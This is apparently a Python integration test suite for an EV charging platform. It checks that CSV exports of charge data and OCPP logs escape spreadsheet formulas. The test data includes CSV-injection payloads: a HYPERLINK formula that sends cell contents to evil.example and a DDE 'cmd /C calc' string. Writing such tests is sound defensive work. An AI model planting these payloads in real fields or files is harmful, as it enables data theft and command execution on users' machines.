"""CSV injection: what staff typed or a station sent never runs as a formula in a spreadsheet that opens one of
the exports (portal.csv_export.spreadsheet_safe), while amounts stay numbers."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import httpx

from core.cdrs.tables import Cdr
from core.charging.tables import ChargingSession
from core.infrastructure import locations
from core.infrastructure.tables import ChargingStation
from ocpp_cs.msglog import message_log
from tests.integration.cdrs.conftest import cdr_of, finished_session
from tests.integration.ocpp.conftest import make_station, raw_socket
from tests.support import TenantCtx

CITY = '=HYPERLINK("http://evil.example/"&A1)'
ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"
ID_TAG = "-2+3"


async def test_charging_data_export_neutralises_formulas_and_keeps_amounts(
    admin_client: httpx.AsyncClient, cpo: TenantCtx, unique: str
) -> None:
    station = await make_station(cpo, "F" + unique, points=1)
    location = await locations.create_location(
        cpo.actor, {"name": f"Formel {unique}", "address": ADDRESS, "postal_code": "80331", "city": CITY,
                    "country": "DEU", "latitude": "48.1", "longitude": "11.5"},
    )  # fmt: skip
    await ChargingStation.update({ChargingStation.location: location["id"]}).where(ChargingStation.id == station.id)
    session_id = await finished_session(cpo, station)
    await ChargingSession.update({ChargingSession.id_tag: ID_TAG}).where(ChargingSession.id == session_id)
    cdr = await cdr_of(session_id)
    # A credit (a negative amount) is data: it must stay a number in the spreadsheet.
    await Cdr.update({Cdr.total_cost_excl_vat: Decimal("-1.5")}).where(Cdr.id == cdr["id"])

    response = await admin_client.get("/charging-data/export.csv", params={"from": "2026-09-01", "to": "2026-12-31"})
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=","))  # in English
    row = next(r for r in rows if int(r["Session"]) == session_id)
    assert (row["City"], row["Address"], row["Card / token"]) == ("'" + CITY, "'" + ADDRESS, "'" + ID_TAG)
    assert row["Net amount"] == "-1.50"
    assert row["Postal code"] == "80331" and row["Energy (kWh)"] == "10.000"


async def test_ocpp_log_export_neutralises_what_a_station_sent(
    admin_client: httpx.AsyncClient, ocpp_url: str, cpo: TenantCtx, unique: str
) -> None:
    station = await make_station(cpo, "L" + unique, points=1)
    async with raw_socket(ocpp_url, station) as ws:
        await ws.send(json.dumps([2, "=1+1", "Heartbeat", {}]))
        reply = json.loads(await ws.recv())
        assert reply[:2] == [3, "=1+1"]
    await message_log.flush()

    export = await admin_client.get(f"/operations/stations/{station.id}/log.csv?action=Heartbeat&period=1h")
    assert export.status_code == 200, export.text
    table = list(csv.DictReader(io.StringIO(export.text)))
    assert sorted((r["direction"], r["unique_id"]) for r in table) == [("in", "'=1+1"), ("out", "'=1+1")]
    assert all(json.loads(r["payload"])[1] == "=1+1" for r in table)  # the frame itself stays verbatim JSON
